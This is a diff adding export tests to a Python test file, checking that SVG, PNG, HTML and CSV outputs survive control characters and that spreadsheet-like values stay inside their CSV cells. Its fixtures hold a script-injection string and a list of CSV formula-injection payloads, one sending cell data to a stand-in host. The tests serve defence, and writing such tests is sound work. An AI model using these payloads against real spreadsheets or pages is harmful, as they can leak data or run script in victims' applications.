@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -16,6 +17,7 @@ from PIL import Image
 
 from core import charts, export, views
 from core.requests import Fact, TraceRequest
+from core.tables import long_table
 
 EVIL = Fact(
     prompt="</script><script>alert(1)</script> {}\nsecond line # not a comment",
@@ -49,6 +51,34 @@ def test_csv_says_where_it_comes_from_and_reads_back_exactly(result):
     assert list(back.columns) == list(table.columns)
     assert list(back.token) == list(table.token)
     pd.testing.assert_frame_equal(back[views.MEASURES], table[views.MEASURES], check_dtype=False)
+
+
+@pytest.mark.parametrize("text", ["a\x00b\x1b\x08", "\u202eאב👩\u200d👧\ufffe\uffff", "x" * 3000])
+def test_characters_that_xml_cannot_hold_end_no_download(text):
+    request = TraceRequest(fact=Fact("{} is\x00", text, "t\x1b", "f"))
+    result = fake_result(request=request, tokens=[text, " b\x00", "c", "d", "e", "f"], n_layers=2)
+    picture = charts.layer_token(result)
+    shown = "".join(ElementTree.fromstring(export.svg(picture, result, f"of {text}")).itertext())
+    assert "of " + re.sub("[\x00-\x1f\ufffe\uffff]", "", text)[:20] in shown
+    Image.open(io.BytesIO(export.png(picture, result, f"of {text}"))).verify()
+    assert b"</html>" in export.page(picture, result, f"of {text}")
+
+
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", '=LINK("http://x/?"&A1,"a")', "a\r=1+1", "a\n=1+1", '",=1+1,"']
+
+
+def test_no_text_leaves_its_cell_of_a_csv_and_none_is_changed():
+    facts = [Fact(f"{{}} {f}", f.strip(), f.strip(), "b", case_id=n, relation=f) for n, f in enumerate(FORMULAS)]
+    results = [fake_result(request=TraceRequest(fact=fact), tokens=[*FORMULAS[:5], fact.true]) for fact in facts]
+    for result in results:
+        table = long_table([result])
+        data = export.csv(table, result, "=1+1\n=2")
+        text = io.StringIO(data.decode(), newline="")
+        assert [next(text)[0] for _ in range(export.CSV_COMMENTS)] == ["#"] * export.CSV_COMMENTS
+        rows = list(csv.DictReader(text, strict=True))
+        assert len(rows) == len(table)
+        for column in ("prompt", "subject", "true", "relation", "token"):
+            assert [row[column] for row in rows] == list(table[column].fillna("").astype(str)), column
 
 
 def test_parquet_carries_request_and_provenance(result):
